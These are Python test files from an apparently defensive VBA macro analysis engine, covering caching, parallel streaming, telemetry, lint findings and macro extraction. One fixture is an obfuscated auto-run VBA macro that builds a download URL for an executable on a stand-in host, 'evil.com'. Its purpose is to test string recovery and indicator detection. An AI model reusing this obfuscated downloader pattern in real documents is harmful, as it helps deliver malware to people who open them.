        assert info["misses"] == 2
        # The duplicate still gets a full record under its own identity.
        assert records[1].sha256 == records[0].sha256
        assert records[1].macros == records[0].macros

    def test_cache_persists_across_calls(self, documents):
        engine = AnalysisEngine.for_extraction()
        engine.run(documents[0])
        engine.run(documents[0])
        assert engine.cache_info()["hits"] == 1

    def test_parallel_batches_populate_parent_cache(self, documents):
        engine = AnalysisEngine.for_extraction()
        engine.run_batch(documents, jobs=2)
        engine.run(documents[0])
        assert engine.cache_info()["hits"] == 1

    def test_cache_can_be_disabled(self, documents):
        engine = AnalysisEngine(feature_sets=(), cache_size=0)
        engine.run(documents[0])
        engine.run(documents[0])
        assert engine.cache_info() == {
            "hits": 0, "misses": 0, "evictions": 0, "size": 0,
            "feature_hits": 0, "feature_misses": 0,
            "feature_evictions": 0, "feature_size": 0,
        }


class TestFilterStage:
    def test_short_macros_marked_not_dropped(self):
        blob = build_document_bytes(["Sub T()\nEnd Sub\n"], "docm")
        engine = AnalysisEngine.for_extraction(min_macro_bytes=150)
        record = engine.run(blob)
        assert record.ok
        assert [macro.filtered for macro in record.macros] == ["short"]
        assert record.kept_macros == []

    def test_filter_disabled_by_default(self):
        blob = build_document_bytes(["Sub T()\nEnd Sub\n"], "docm")
        record = AnalysisEngine.for_extraction().run(blob)
        assert record.kept_macros != []


class TestRunSource:
    def test_bare_source_gets_scored(self, macro_sources, detector):
        benign, obfuscated = macro_sources
        engine = AnalysisEngine.for_scan(detector)
        normal = engine.run_source(benign[0])
        hot = engine.run_source(obfuscated[0])
        assert normal.verdict == "normal"
        assert hot.verdict == "obfuscated"
        assert hot.features["V"].shape == (15,)
