"""Windowed telemetry over the engine: serial vs parallel parity.

A :class:`SlidingWindow` attached to the engine is ticked from the serial
dispatch loop and from every worker-telemetry merge.  With a window wide
enough to hold the whole run, the final view must equal the cumulative
registry — and therefore be identical (over counts) between ``jobs=1``
and ``jobs=N`` runs of the same inputs, exactly like the registry itself.
"""

import random

import pytest

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine, MetricsRegistry
from repro.obs import SlidingWindow


@pytest.fixture(scope="module")
def documents():
    rng = random.Random(23)
    return [
        build_document_bytes(
            [generate_benign_module(rng, target_length=rng.randint(300, 1200))],
            "docm",
        )
        for _ in range(6)
    ]


def _windowed_run(documents, jobs):
    registry = MetricsRegistry()
    engine = AnalysisEngine.for_lint(metrics=registry)
    # Hour-wide window: nothing ages out, so the final view must match
    # the cumulative registry exactly — the strongest parity oracle.
    engine.window = SlidingWindow(window_s=3600.0, buckets=12)
    records = engine.run_batch(documents, jobs=jobs)
    return records, registry, engine


def _window_counts(view):
    histogram_counts = {
        name: histogram.count for name, histogram in view.histograms.items()
    }
    moment_counts = {
        name: payload["count"] for name, payload in view.moments.items()
    }
    return dict(view.counters), histogram_counts, moment_counts


class TestWindowParity:
    def test_serial_view_equals_cumulative_registry(self, documents):
        _, registry, engine = _windowed_run(documents, jobs=1)
        view = engine.window.view(registry)
        snapshot = registry.to_dict()
        assert view.counters == pytest.approx(snapshot["counters"])
        for name, payload in snapshot["histograms"].items():
            assert view.histograms[name].count == payload["count"]
            assert view.histograms[name].counts == payload["counts"]
        for name, payload in snapshot["moments"].items():
            assert view.moments[name]["count"] == payload["count"]
            assert view.moments[name]["sum"] == pytest.approx(payload["sum"])

    def test_parallel_view_equals_cumulative_registry(self, documents):
        _, registry, engine = _windowed_run(documents, jobs=3)
        view = engine.window.view(registry)
        snapshot = registry.to_dict()
        assert view.counters == pytest.approx(snapshot["counters"])
        for name, payload in snapshot["histograms"].items():
            assert view.histograms[name].count == payload["count"]

    def test_serial_and_parallel_views_agree(self, documents):
        _, serial_registry, serial_engine = _windowed_run(documents, jobs=1)
        _, parallel_registry, parallel_engine = _windowed_run(
            documents, jobs=3
        )
        serial = _window_counts(serial_engine.window.view(serial_registry))
        parallel = _window_counts(
            parallel_engine.window.view(parallel_registry)
        )
        s_counters, s_histograms, s_moments = serial
        p_counters, p_histograms, p_moments = parallel
        # Cache counters are process-local bookkeeping; everything the
        # pipeline recorded about the documents themselves must agree.
        for name in ("span.document", "span.extract", "span.lint"):
            assert s_histograms[name] == p_histograms[name] == len(documents)
        assert s_histograms.keys() == p_histograms.keys()
        assert s_moments == p_moments
        assert s_counters.get("lint.macros") == p_counters.get("lint.macros")

    def test_serial_stream_ticks_the_window(self, documents):
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_lint(metrics=registry)
        engine.window = SlidingWindow(window_s=3600.0, buckets=12)
        for record in engine.stream(iter(documents)):
            assert record.ok
        assert len(engine.window) >= 1
        view = engine.window.view(registry)
        assert view.count("span.document") == len(documents)

    def test_window_survives_pickling_engines(self, documents):
        import pickle

        _, _, engine = _windowed_run(documents, jobs=1)
        clone = pickle.loads(pickle.dumps(engine))
        # Observability attachments are parent-process state: workers
        # must not inherit (or try to pickle) the ring of snapshots.
        assert clone.window is None
        assert clone.drift_monitor is None
