"""Tests for the LintStage wired into the staged engine."""

import random

import pytest

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.corpus.malicious import generate_malicious_macro
from repro.engine import AnalysisEngine
from repro.engine.stages import LintStage
from repro.obfuscation.pipeline import default_pipeline


@pytest.fixture(scope="module")
def documents():
    rng = random.Random(23)
    benign = [generate_benign_module(rng) for _ in range(3)]
    pipeline = default_pipeline()
    obfuscated = [
        pipeline.run(generate_malicious_macro(rng, "word"), seed=index).source
        for index in range(3)
    ]
    return [
        build_document_bytes([source], "docm")
        for source in benign + obfuscated
    ]


class TestLintStage:
    def test_for_lint_attaches_findings(self, documents):
        records = AnalysisEngine.for_lint().run_batch(documents)
        benign, obfuscated = records[:3], records[3:]
        for record in benign:
            assert record.ok
            assert all(not macro.findings for macro in record.macros)
        for record in obfuscated:
            assert record.ok
            assert any(macro.findings for macro in record.macros)

    def test_findings_survive_in_to_dict(self, documents):
        record = AnalysisEngine.for_lint().run(documents[-1])
        payload = record.to_dict()
        findings = payload["macros"][0]["findings"]
        assert findings, "obfuscated document should carry findings"
        assert {"rule_id", "o_class", "severity", "line", "span"} <= set(
            findings[0]
        )

    def test_rule_subset_restricts_findings(self, documents):
        engine = AnalysisEngine.for_lint(rules=("o1-gibberish-identifier",))
        record = engine.run(documents[-1])
        kinds = {
            finding.rule_id
            for macro in record.macros
            for finding in macro.findings
        }
        assert kinds <= {"o1-gibberish-identifier"}

    def test_unknown_rule_id_fails_fast(self):
        with pytest.raises(KeyError):
            LintStage(rules=("no-such-rule",))

    def test_jobs_parity(self, documents):
        serial = AnalysisEngine.for_lint().run_batch(documents, jobs=1)
        parallel = AnalysisEngine.for_lint().run_batch(documents, jobs=2)
        for left, right in zip(serial, parallel):
            left_findings = [m.findings for m in left.macros]
            right_findings = [m.findings for m in right.macros]
            assert left_findings == right_findings

    def test_scan_with_lint_keeps_verdict_and_findings(self, documents):
        from repro import ObfuscationDetector

        rng = random.Random(5)
        benign = [generate_benign_module(rng) for _ in range(4)]
        pipeline = default_pipeline()
        bad = [
            pipeline.run(
                generate_malicious_macro(rng, "word"), seed=index
            ).source
            for index in range(2)
        ]
        detector = ObfuscationDetector("RF").fit(
            benign + bad, [0] * len(benign) + [1] * len(bad)
        )
        engine = AnalysisEngine.for_scan(detector, lint=True)
        record = engine.run(documents[-1])
        macro = record.macros[0]
        assert macro.verdict is not None
        assert macro.findings

    def test_run_source_runs_lint(self):
        macro = AnalysisEngine.for_lint().run_source(
            's = "po" & "we" & "rs"\n'
        )
        assert [f.rule_id for f in macro.findings] == ["o2-literal-concat"]
