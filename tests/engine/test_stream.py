"""The streaming warm-pool engine's contracts.

What must hold (and is exercised here against real worker processes):

* **ordering** — ``ordered=True`` yields input order even when an early
  document is slow; ``ordered=False`` yields completion order;
* **backpressure** — a large feed is consumed lazily and window occupancy
  (admitted minus yielded) never exceeds the window;
* **warm survivors** — a worker killed mid-stream is rebuilt alone; the
  other workers keep their pids and the pool object survives the call;
* **per-task blame** — a poison document in a long stream quarantines
  exactly itself, with zero bisection rounds;
* **parity** — ``run_batch(jobs=N)`` returns records identical (minus
  timings) to the serial path, in the same order.
"""

import time

import pytest

from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine
from repro.engine.records import DocumentRecord
from repro.engine.stages import Stage
from repro.obs import MetricsRegistry
from repro.resilience import DEFAULT_RETRY, Fault, FaultPlan, RetryPolicy
from repro.resilience import recovery as recovery_module


@pytest.fixture()
def recorded_sleeps(monkeypatch):
    delays = []
    monkeypatch.setattr(recovery_module, "_sleep", delays.append)
    return delays


def tiny_docs(count):
    """Unique non-container inputs: each is a cheap worker task (the
    extract stage refuses it immediately) with its own digest."""
    return [(f"doc_{i:05d}", b"not a document %d" % i) for i in range(count)]


class StallStage(Stage):
    """Sleep on matching documents — a pathological slow input."""

    name = "stall"

    def __init__(self, match: str, delay_s: float) -> None:
        self.match = match
        self.delay_s = delay_s

    def process(self, document: DocumentRecord) -> None:
        if self.match in document.source_id:
            time.sleep(self.delay_s)


class TestOrderingContract:
    def test_ordered_yield_survives_slow_head_of_line(self, document_factory):
        pairs = document_factory(8)
        slow_id = pairs[0][0]  # the very first admission stalls
        engine = AnalysisEngine.for_extraction()
        engine.stages.append(StallStage(slow_id, 0.5))
        records = list(engine.stream(pairs, jobs=2, ordered=True))
        assert [r.source_id for r in records] == [sid for sid, _ in pairs]
        assert all(r.ok for r in records)
        engine.close()

    def test_unordered_yields_out_of_order_completions_first(
        self, document_factory
    ):
        pairs = document_factory(8)
        slow_id = pairs[0][0]
        engine = AnalysisEngine.for_extraction()
        engine.stages.append(StallStage(slow_id, 0.75))
        records = list(engine.stream(pairs, jobs=2, ordered=False))
        assert {r.source_id for r in records} == {sid for sid, _ in pairs}
        # The stalled document cannot be the first completion.
        assert records[0].source_id != slow_id
        engine.close()

    def test_serial_stream_is_lazy_and_ordered(self, document_factory):
        pairs = document_factory(3)
        pulled = []

        def feed():
            for pair in pairs:
                pulled.append(pair[0])
                yield pair

        engine = AnalysisEngine.for_extraction()
        results = engine.stream(feed(), jobs=1)
        first = next(results)
        assert first.source_id == pairs[0][0]
        assert len(pulled) == 1  # nothing prefetched past the consumer
        assert [r.source_id for r in results] == [sid for sid, _ in pairs[1:]]


class TestBackpressure:
    def test_window_bounds_admission_over_large_feed(self):
        count, window = 10_000, 8
        docs = tiny_docs(count)
        pulled = 0

        def feed():
            nonlocal pulled
            for doc in docs:
                pulled += 1
                yield doc

        engine = AnalysisEngine.for_extraction()
        results = engine.stream(feed(), jobs=2, window=window, ordered=True)
        first = next(results)
        assert first.source_id == docs[0][0]
        # Backpressure: admission trails the consumer by at most the window.
        assert pulled <= 1 + window
        seen = 1 + sum(1 for _ in results)
        assert seen == count
        assert pulled == count
        pool = engine._pool
        assert pool.peak_in_flight <= window
        assert pool.peak_dispatched <= 2
        engine.close()

    def test_window_smaller_than_jobs_is_clamped(self, document_factory):
        pairs = document_factory(4)
        engine = AnalysisEngine.for_extraction()
        records = list(engine.stream(pairs, jobs=2, window=1))
        assert len(records) == len(pairs)
        assert engine._pool.window == 2
        engine.close()

    def test_duplicate_in_flight_documents_coalesce(self):
        data = b"PK\x03\x04 not really a zip"
        inputs = [("twin_a", data), ("twin_b", data)]
        engine = AnalysisEngine.for_extraction()
        records = list(engine.stream(inputs, jobs=2))
        assert [r.source_id for r in records] == ["twin_a", "twin_b"]
        assert records[0].sha256 == records[1].sha256
        assert engine._pool.tasks_completed == 1  # analyzed exactly once
        assert engine.cache_hits == 1
        engine.close()


class TestWarmPool:
    def test_pool_and_workers_persist_across_batches(self, document_factory):
        pairs = document_factory(6)
        engine = AnalysisEngine.for_extraction()
        engine.run_batch(pairs[:3], jobs=2)
        pool = engine._pool
        pids = pool.worker_pids()
        assert all(pid is not None for pid in pids)
        engine.run_batch(pairs[3:], jobs=2)
        assert engine._pool is pool  # same pool object, no rebuild
        assert pool.worker_pids() == pids  # same processes, still warm
        engine.close()
        assert engine._pool is None

    def test_worker_kill_mid_stream_keeps_survivors_warm(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(12)
        poison_id = pairs[10][0]
        engine = AnalysisEngine.for_extraction(
            chaos=FaultPlan.parse(f"exit:{poison_id}")
        )
        engine.retry = RetryPolicy(max_attempts=1)  # quarantine on first death
        # A clean warm-up batch; the poison (and one fresh innocent, so the
        # second batch still fans out to the pool) stays out of it.
        engine.run_batch(pairs[:10], jobs=2)
        pool = engine._pool
        before = pool.worker_pids()
        assert all(pid is not None for pid in before)

        records = engine.run_batch(pairs, jobs=2)
        assert len(records) == len(pairs)
        quarantined = [r for r in records if r.quarantine is not None]
        assert [r.source_id for r in quarantined] == [poison_id]

        assert engine._pool is pool  # no full-pool rebuild
        assert pool.worker_restarts == 1
        after = pool.worker_pids()
        # Exactly one slot was rebuilt; the survivor kept its process.
        survivors = [pid for pid in after if pid in before]
        assert len(survivors) == len(before) - 1
        engine.close()


class TestPerTaskBlame:
    def test_poison_in_long_stream_quarantines_exactly_itself(
        self, document_factory, recorded_sleeps
    ):
        pairs = document_factory(200)
        poison_id = pairs[111][0]
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(
            metrics=registry, chaos=FaultPlan.parse(f"exit:{poison_id}")
        )
        records = engine.run_batch(pairs, jobs=2)
        assert len(records) == 200
        assert [r.source_id for r in records] == [sid for sid, _ in pairs]
        quarantined = [r for r in records if r.quarantine is not None]
        assert [r.source_id for r in quarantined] == [poison_id]
        assert quarantined[0].quarantine["attempts"] == DEFAULT_RETRY.max_attempts
        for record in records:
            if record.source_id != poison_id:
                assert record.ok and not record.degraded

        counters = registry.to_dict()["counters"]
        # Per-task dispatch: blame is structural, bisection never runs.
        assert counters.get("resilience.bisections", 0) == 0
        assert counters["resilience.quarantined"] == 1
        assert counters["resilience.retries"] == DEFAULT_RETRY.max_attempts - 1
        assert counters["stream.worker_restarts"] == DEFAULT_RETRY.max_attempts
        assert len(recorded_sleeps) == DEFAULT_RETRY.max_attempts - 1
        engine.close()


class TestSerialParity:
    def test_run_batch_records_match_serial_path(self, document_factory):
        pairs = document_factory(12)
        inputs = pairs + [pairs[2]]  # one duplicate -> one cached copy
        serial = AnalysisEngine.for_extraction().run_batch(inputs, jobs=1)
        engine = AnalysisEngine.for_extraction()
        streamed = engine.run_batch(inputs, jobs=2)
        assert len(serial) == len(streamed) == len(inputs)

        def shape(record):
            payload = record.to_dict()
            payload.pop("timings")
            return payload

        assert [shape(r) for r in serial] == [shape(r) for r in streamed]
        engine.close()


def big_docs(count, chars=200_000):
    """Documents whose records pickle far beyond the shm threshold."""
    pairs = []
    for index in range(count):
        lines = [f"Sub Big{index}()"]
        lines.extend(
            f'    v{index}_{line} = "padding {index} {line} {"x" * 64}"'
            for line in range(chars // 96)
        )
        lines.append("End Sub")
        source = "\n".join(lines) + "\n"
        pairs.append((f"big_{index:03d}", build_document_bytes([source], "docm")))
    return pairs


class TestSharedMemoryTransport:
    def test_large_records_ride_shared_memory_with_exact_parity(self):
        pairs = big_docs(4)
        serial = AnalysisEngine.for_extraction(
            metrics=MetricsRegistry(), budget=None
        ).run_batch(pairs)
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(metrics=registry, budget=None)
        streamed = engine.run_batch(pairs, jobs=2)

        def shape(record):
            payload = record.to_dict()
            payload.pop("timings")
            return payload

        assert [shape(r) for r in serial] == [shape(r) for r in streamed]
        # The extracted module sources survive the segment round-trip.
        for record, reference in zip(streamed, serial):
            assert record.ok
            assert [m.source for m in record.macros] == [
                m.source for m in reference.macros
            ]
        counters = registry.to_dict()["counters"]
        assert counters["stream.shm_results"] == len(pairs)
        assert counters["stream.shm_bytes"] > len(pairs) * 64 * 1024
        assert counters.get("stream.shm_fallback", 0) == 0
        engine.close()

    def test_shm_threshold_zero_disables_transport(self):
        pairs = big_docs(2)
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(metrics=registry, budget=None)
        engine.shm_threshold = 0
        records = engine.run_batch(pairs, jobs=2)
        assert all(record.ok for record in records)
        counters = registry.to_dict()["counters"]
        assert counters.get("stream.shm_results", 0) == 0
        engine.close()

    def test_segments_are_reclaimed_not_leaked(self):
        # Many large results through few workers: the per-worker segment
        # pool must recycle instead of growing one segment per task.
        pairs = big_docs(6, chars=120_000)
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(metrics=registry, budget=None)
        records = engine.run_batch(pairs, jobs=2)
        assert all(record.ok for record in records)
        counters = registry.to_dict()["counters"]
        assert counters["stream.shm_results"] == len(pairs)
        pool = engine._pool
        names = set().union(*(slot.shm_names for slot in pool._slots))
        # 2 workers x a pooled segment (or two) each, not 6 fresh segments.
        assert len(names) <= 4
        engine.close()


class TestChaosUnderBackpressure:
    def test_hang_and_oversize_mix_keeps_window_and_totality(
        self, document_factory
    ):
        """ISSUE 6 satellite: a FaultPlan mixing a hanging document with an
        oversized one at ``--window 4`` must neither blow the admission
        window nor lose a record (N in, N out, in order)."""
        pairs = document_factory(12)
        hang_id, oversize_id = pairs[3][0], pairs[7][0]
        plan = FaultPlan(
            faults=(Fault("hang", hang_id), Fault("oversize", oversize_id)),
            hang_s=0.2,
            oversize_bytes=256 * 1024,  # also exercises the shm transport
        )
        engine = AnalysisEngine.for_extraction(chaos=plan)
        records = list(engine.stream(pairs, jobs=2, window=4, ordered=True))
        assert [r.source_id for r in records] == [sid for sid, _ in pairs]
        assert engine._pool.peak_in_flight <= 4
        oversized = next(r for r in records if r.source_id == oversize_id)
        assert any(len(m.source) >= 256 * 1024 for m in oversized.macros)
        for record in records:
            assert record.quarantine is None
        engine.close()


class TestFeatureCacheTelemetry:
    def test_worker_feature_cache_counters_merge(self, document_factory):
        pairs = document_factory(6)
        serial_engine = AnalysisEngine(
            feature_sets=("V", "J"), metrics=MetricsRegistry()
        )
        serial_engine.run_batch(pairs, jobs=1)
        parallel_engine = AnalysisEngine(
            feature_sets=("V", "J"), metrics=MetricsRegistry()
        )
        parallel_engine.run_batch(pairs, jobs=2)
        serial_info = serial_engine.cache_info()
        parallel_info = parallel_engine.cache_info()
        # Counters agree after the telemetry merge; sizes legitimately
        # differ (row contents never leave the worker processes).
        for key in ("feature_hits", "feature_misses", "feature_evictions"):
            assert serial_info[key] == parallel_info[key], key
        assert serial_info["feature_misses"] == len(pairs)
        parallel_engine.close()
