"""Engine ↔ telemetry integration: spans, counters, and the worker merge.

The load-bearing guarantees:

* every stage of every processed document lands in the registry — at
  ``jobs=1`` and ``jobs=N`` alike (worker registries merge back);
* ``cache_info()`` reports merged parent+worker numbers, so serial and
  parallel runs of the same inputs agree;
* telemetry off is the default and records nothing.
"""

import random

import pytest

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine, MetricsRegistry


@pytest.fixture(scope="module")
def documents():
    rng = random.Random(23)
    return [
        build_document_bytes(
            [generate_benign_module(rng, target_length=rng.randint(300, 1200))],
            "docm",
        )
        for _ in range(6)
    ]


def _lint_run(documents, jobs, trace=False):
    registry = MetricsRegistry(trace=trace)
    engine = AnalysisEngine.for_lint(metrics=registry)
    records = engine.run_batch(documents, jobs=jobs)
    return records, registry, engine


class TestStageSpans:
    def test_every_stage_of_every_document_is_timed(self, documents):
        records, registry, _ = _lint_run(documents, jobs=1)
        snapshot = registry.to_dict()["histograms"]
        for stage in ("extract", "analyze", "lint", "document"):
            assert snapshot[f"span.{stage}"]["count"] == len(documents)
        assert snapshot["span.batch"]["count"] == 1
        for record in records:
            assert set(record.timings) == {
                "extract", "analyze", "lint", "document",
            }
            assert record.timings["document"] >= record.timings["extract"]

    def test_single_run_records_document_span(self, documents):
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_extraction(metrics=registry)
        record = engine.run(documents[0])
        assert record.ok
        assert registry.histogram("span.document").count == 1
        assert registry.histogram("span.batch").count == 0

    def test_extract_errors_become_counters_and_error_spans(self):
        registry = MetricsRegistry(trace=True)
        engine = AnalysisEngine.for_extraction(metrics=registry)
        record = engine.run(b"not a document")
        assert not record.ok
        assert registry.to_dict()["counters"]["errors.extract"] == 1
        assert any(
            event["name"] == "extract" and event["outcome"] == "error"
            for event in registry.events
        )

    def test_run_source_records_macro_stage_spans(self):
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_features(("V",), metrics=registry)
        macro = engine.run_source("Sub T()\n  Dim a\n  a = 1\nEnd Sub\n")
        assert macro.features["V"].shape == (15,)
        assert registry.histogram("span.analyze").count == 1
        assert registry.histogram("span.featurize").count == 1


class TestWorkerMerge:
    def test_parallel_batch_merges_worker_registries(self, documents):
        serial_records, serial_registry, _ = _lint_run(documents, jobs=1)
        parallel_records, parallel_registry, _ = _lint_run(documents, jobs=4)
        serial = serial_registry.to_dict()
        parallel = parallel_registry.to_dict()
        # Same documents, same spans — regardless of which process ran them.
        for stage in ("extract", "analyze", "lint", "document"):
            key = f"span.{stage}"
            assert (
                parallel["histograms"][key]["count"]
                == serial["histograms"][key]["count"]
            )
        assert [r.sha256 for r in serial_records] == [
            r.sha256 for r in parallel_records
        ]

    def test_parallel_trace_includes_worker_events(self, documents):
        _, registry, _ = _lint_run(documents, jobs=4, trace=True)
        pids = {event["pid"] for event in registry.events}
        assert len(pids) > 1  # parent (batch span) + at least one worker
        documents_seen = {
            event["doc"]
            for event in registry.events
            if event["name"] == "document"
        }
        assert len(documents_seen) == len(documents)

    def test_cache_info_agrees_between_serial_and_parallel(self, documents):
        """Regression: jobs=N must not under-report cache traffic."""
        inputs = documents + documents[:2]  # two duplicates -> two hits
        _, _, serial_engine = _lint_run(inputs, jobs=1)
        _, _, parallel_engine = _lint_run(inputs, jobs=4)
        serial_info = serial_engine.cache_info()
        parallel_info = parallel_engine.cache_info()
        assert serial_info == parallel_info
        assert serial_info["hits"] == 2
        assert serial_info["misses"] == len(documents)

    def test_engine_pickles_with_private_registry(self, documents):
        import pickle

        registry = MetricsRegistry(trace=True)
        engine = AnalysisEngine.for_lint(metrics=registry)
        engine.run(documents[0])
        clone = pickle.loads(pickle.dumps(engine))
        # The worker copy starts empty but records with the same config.
        assert clone.metrics is not registry
        assert clone.metrics.trace is True
        assert clone.metrics.to_dict()["counters"] == {}
        assert clone.metrics.events == []
        assert clone.cache_info()["misses"] == 0


class TestTelemetryOff:
    def test_default_engine_records_nothing(self, documents):
        engine = AnalysisEngine.for_lint()
        records = engine.run_batch(documents, jobs=1)
        assert all(record.ok for record in records)
        assert all(record.timings == {} for record in records)
        assert engine.metrics.enabled is False
        assert engine.metrics.to_dict()["events"] == []

    def test_off_and_on_produce_identical_results(self, documents):
        plain = AnalysisEngine.for_lint().run_batch(documents)
        traced, _, _ = _lint_run(documents, jobs=1, trace=True)
        for a, b in zip(plain, traced):
            assert a.sha256 == b.sha256
            assert [
                [f.to_dict() for f in m.findings] for m in a.macros
            ] == [[f.to_dict() for f in m.findings] for m in b.macros]
