"""RecoverStage integration: records, JSON schema, budgets, telemetry."""

import json

from repro.corpus.documents import build_document_bytes
from repro.engine import ENGINE_SCHEMA_VERSION, AnalysisEngine, RecoverStage
from repro.obs import MetricsRegistry
from repro.resilience import STRICT_SA_BUDGET

DECODER = (
    "Sub AutoOpen()\n"
    "    Dim u As String\n"
    "    u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47)\n"
    '    u = u & StrReverse("moc.live") & "/payload" & ".e" & "xe"\n'
    '    x = Replace("WinHteRKttp.WinHteRKttpRequest", "teRK", "")\n'
    "End Sub"
)


class TestMacroPath:
    def test_recover_attaches_everything(self):
        macro = AnalysisEngine.for_lint(recover=True).run_source(DECODER)
        assert "http://evil.com/payload.exe" in macro.recovered_strings
        assert "WinHttp.WinHttpRequest" in macro.recovered_strings
        assert macro.recovery is not None
        assert "url" in macro.recovery.ioc_kinds
        assert "url.exe" in macro.recovery.signature_hits
        assert macro.features["R"].shape == (6,)
        assert macro.features["R"][0] == len(macro.recovered_strings)
        assert any(f.o_class == "SA" for f in macro.findings)

    def test_recover_off_is_the_default(self):
        macro = AnalysisEngine.for_lint().run_source(DECODER)
        assert macro.recovery is None
        assert macro.recovered_strings == []
        assert "R" not in macro.features
        assert not any(f.o_class == "SA" for f in macro.findings)

    def test_strict_budget_accepted(self):
        engine = AnalysisEngine.for_lint(recover=True, sa_budget=STRICT_SA_BUDGET)
        macro = engine.run_source(DECODER)
        assert "http://evil.com/payload.exe" in macro.recovered_strings

    def test_unparsable_macro_degrades_not_raises(self):
        macro = AnalysisEngine.for_lint(recover=True).run_source(
            "Sub Broken(((\n  ::: ???"
        )
        # total: the record comes back, recovery flagged or empty
        assert macro.recovered_strings == [] or macro.recovery is not None

    def test_stage_constructor_defaults(self):
        stage = RecoverStage()
        assert stage.name == "recover"


class TestDocumentPath:
    def test_json_record_shape(self):
        blob = build_document_bytes([DECODER], "docm")
        engine = AnalysisEngine.for_lint(recover=True)
        record = engine.run(("doc.docm", blob))
        payload = record.to_dict()
        assert payload["schema_version"] == ENGINE_SCHEMA_VERSION == 2
        macro = payload["macros"][0]
        assert "http://evil.com/payload.exe" in macro["recovered_strings"]
        recovery = macro["recovery"]
        assert recovery["exhausted"] is False
        assert recovery["parse_failed"] is False
        assert "url" in recovery["ioc_kinds"]
        assert recovery["strings"][0].keys() == {"value", "line", "origin"}
        json.dumps(payload)  # fully serializable

    def test_schema_version_present_without_recover(self):
        blob = build_document_bytes([DECODER], "docm")
        record = AnalysisEngine.for_lint().run(("doc.docm", blob))
        payload = record.to_dict()
        assert payload["schema_version"] == ENGINE_SCHEMA_VERSION
        assert payload["macros"][0]["recovery"] is None

    def test_batch_n_in_n_out_with_recover(self):
        inputs = [
            ("a.docm", build_document_bytes([DECODER], "docm")),
            ("junk.docm", b"not a document at all"),
            ("b.docm", build_document_bytes(["Sub B()\nEnd Sub"], "docm")),
        ]
        records = AnalysisEngine.for_lint(recover=True).run_batch(inputs)
        assert len(records) == len(inputs)
        assert [r.source_id for r in records] == ["a.docm", "junk.docm", "b.docm"]


class TestRecoveryCache:
    def test_variants_share_one_recovery(self):
        # CRLF / lone-CR re-encodings normalize to the same digest, so
        # only the first variant pays for abstract interpretation.
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_lint(metrics=registry, recover=True)
        variants = [
            DECODER,
            DECODER.replace("\n", "\r\n"),
            DECODER.replace("\n", "\r"),
        ]
        macros = [engine.run_source(v) for v in variants]
        assert registry.counters["sa.analyzed"].value == 1
        assert registry.counters["sa.cache_hits"].value == 2
        first = macros[0].recovered_strings
        assert "http://evil.com/payload.exe" in first
        assert all(m.recovered_strings == first for m in macros[1:])
        assert all(
            m.recovery.signature_hits == macros[0].recovery.signature_hits
            for m in macros[1:]
        )


class TestTelemetry:
    def test_sa_counters_and_stage_span(self):
        registry = MetricsRegistry()
        engine = AnalysisEngine.for_lint(metrics=registry, recover=True)
        engine.run_source(DECODER)
        engine.run_source(
            "Sub Hang()\n    For i = 1 To 1000000000\n        s = s & \"x\"\n"
            "    Next i\nEnd Sub"
        )
        counters = registry.counters
        assert counters["sa.analyzed"].value == 2
        assert counters["sa.budget_exhausted"].value == 1
        assert counters["sa.budget_exhausted.loop_iterations"].value == 1
        assert counters["sa.strings_recovered"].value >= 2
        assert counters["sa.signature_hits"].value >= 1
