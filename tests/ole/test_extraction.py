"""End-to-end tests: build documents, then extract macros back (olevba path)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.ole.cfb import CompoundFileWriter
from repro.ole.docvars import DocVarsError, decode_docvars, encode_docvars
from repro.ole.extractor import (
    ExtractionError,
    extract_macros,
    sniff_format,
)
from repro.ole.ooxml import build_docm, build_xlsm, list_parts, read_vba_part
from repro.ole.vba_project import (
    VBAModule,
    VBAProjectError,
    build_vba_storage_streams,
    parse_dir_stream,
)

MACRO_A = (
    "Sub Document_Open()\n"
    '    MsgBox "hello from module A"\n'
    "End Sub\n"
)
MACRO_B = (
    "Function Helper(x As Long) As Long\n"
    "    Helper = x * 2\n"
    "End Function\n"
)


def build_vba_bin(modules: list[VBAModule]) -> bytes:
    writer = CompoundFileWriter()
    for path, data in build_vba_storage_streams(modules).items():
        writer.add_stream(path, data)
    return writer.tobytes()


def build_legacy_doc(modules: list[VBAModule], docvars: dict | None = None) -> bytes:
    """A legacy .doc: VBA under the Macros storage + WordDocument stream."""
    writer = CompoundFileWriter()
    writer.add_stream("WordDocument", b"\xec\xa5\xc1\x00" + b"\x00" * 256)
    for path, data in build_vba_storage_streams(modules).items():
        writer.add_stream(f"Macros/{path}", data)
    if docvars:
        writer.add_stream("ReproDocVars", encode_docvars(docvars))
    return writer.tobytes()


def build_legacy_xls(modules: list[VBAModule]) -> bytes:
    """A legacy .xls: VBA under _VBA_PROJECT_CUR + Workbook stream."""
    writer = CompoundFileWriter()
    writer.add_stream("Workbook", b"\x09\x08" + b"\x00" * 256)
    for path, data in build_vba_storage_streams(modules).items():
        writer.add_stream(f"_VBA_PROJECT_CUR/{path}", data)
    return writer.tobytes()


class TestVBAProjectStreams:
    def test_dir_stream_round_trip(self):
        modules = [
            VBAModule("ThisDocument", MACRO_A, "document"),
            VBAModule("Module1", MACRO_B),
        ]
        streams = build_vba_storage_streams(modules)
        name, refs = parse_dir_stream(streams["VBA/dir"])
        assert name == "VBAProject"
        assert [r.name for r in refs] == ["ThisDocument", "Module1"]
        assert refs[0].module_type == "document"
        assert refs[1].module_type == "procedural"
        assert all(r.offset == 0 for r in refs)

    def test_requires_at_least_one_module(self):
        with pytest.raises(VBAProjectError):
            build_vba_storage_streams([])

    def test_duplicate_module_names_rejected(self):
        with pytest.raises(VBAProjectError):
            build_vba_storage_streams(
